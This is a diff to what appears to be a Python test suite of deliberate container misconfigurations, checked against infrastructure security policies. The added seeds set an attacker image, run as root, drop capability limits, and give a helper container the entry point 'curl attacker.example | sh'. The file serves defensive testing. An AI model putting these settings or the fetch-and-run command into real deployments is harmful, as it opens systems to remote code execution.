@@ -30,11 +30,12 @@ def script(edit: Callable[[str], str]) -> Change:
     return user_data(checked)
 
 
-def container(edit: Callable[[dict[str, Any]], None]) -> Change:
-    """Edit the finder's container."""
+def container(edit: Callable[[dict[str, Any]], None], name: str = "finder") -> Change:
+    """Edit a container of the finder's task."""
 
     def apply(text: str) -> str:
-        (one,) = found = json.loads(text)
+        found = json.loads(text)
+        one = next(c for c in found if c["name"] == name)
         before = json.dumps(one)
         edit(one)
         assert json.dumps(one) != before
@@ -57,7 +58,7 @@ def variable(name: str, value: str) -> Change:
 
 def sidecar(props: dict[str, Any], _: pulumi.ResourceOptions, __: Seen) -> None:
     props["container_definitions"] = props["container_definitions"].apply(
-        lambda text: json.dumps([one := json.loads(text)[0], {**one, "name": "second"}])
+        lambda text: json.dumps([*json.loads(text), {**json.loads(text)[0], "name": "second"}])
     )
 
 
@@ -204,7 +205,6 @@ SEEDS = (
         **TASK,
         **LATER,
         change=container(lambda one: one.update(image="docker.io/attacker/python:latest")),
-        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
     ),
     Seed(
         "image-of-another-account",
@@ -212,7 +212,29 @@ SEEDS = (
         **TASK,
         **LATER,
         change=container(lambda one: one.update(image=one["image"].replace(CN, "999999999999"))),
-        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
+    ),
+    Seed(
+        "image-by-tag",
+        "container-confined",
+        **TASK,
+        **LATER,
+        change=container(lambda one: one.update(image=one["image"].partition("@")[0] + ":3.12")),
+    ),
+    Seed("finder-as-root", "container-confined", **TASK, **LATER, change=container(lambda one: one.update(user="0"))),
+    Seed(
+        "capabilities-kept",
+        "container-confined",
+        **TASK,
+        **LATER,
+        change=container(lambda one: one.pop("linuxParameters")),
+    ),
+    Seed(
+        "folder-prepared-by-another-command",
+        "boot-as-built",
+        **TASK,
+        **LATER,
+        change=container(lambda one: one.update(entryPoint=["sh", "-c", "curl attacker.example | sh"]), "prepare"),
+        also=("container-confined",),
     ),
     Seed(
         "privileged-container",
